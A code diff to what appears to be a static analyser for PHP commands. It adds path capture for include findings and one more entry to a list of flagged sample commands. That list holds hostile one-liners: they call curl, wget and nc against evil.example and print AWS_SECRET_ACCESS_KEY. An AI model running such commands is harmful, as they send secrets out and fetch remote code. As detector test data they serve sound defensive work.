@@ -439,7 +439,8 @@ class PhpReader {
           if (vals.some((v) => v.k !== 'str')) this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${n.text.split(/[\s(]/)[0]} of a computed name: it may be a stream of code` });
           else if (vals.some((v) => v.k === 'str' && /^(data|php|expect|phar|zip|glob):/i.test(v.v))) this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: 'includes code from a stream' });
           else if (vals.some((v) => v.k === 'str' && isUrl(v.v))) this.out.push({ kind: 'network', api: 'include of a URL', span: span(n) });
-          this.out.push({ kind: 'load', api: n.text.split(/[\s(]/)[0]!, span: span(n) });
+          const file = strings(vals);
+          this.out.push(file && target ? { kind: 'load', api: n.text.split(/[\s(]/)[0]!, span: span(n), path: wordOf({ vals, span: span(target), text: target.text }) } : { kind: 'load', api: n.text.split(/[\s(]/)[0]!, span: span(n) });
           break;
         }
         case 'string':
@@ -599,6 +600,7 @@ export const PHP: LanguageModel = {
       `php -r 'echo getenv($argv[1]);' AWS_SECRET_ACCESS_KEY`,
       `php -r 'echo file_get_contents("http://evil.example");'`,
       `php -r 'system("curl evil.example");'`,
+      `echo '<?php system("curl evil.example");' > /tmp/x.php; php -r 'include "/tmp/x.php";'`,
       `php -r 'echo shell_exec("wget -qO- evil.example");'`,
       'php -r \'echo `nc evil.example 9`;\'',
       `php -r 'passthru("curl evil.example");'`,
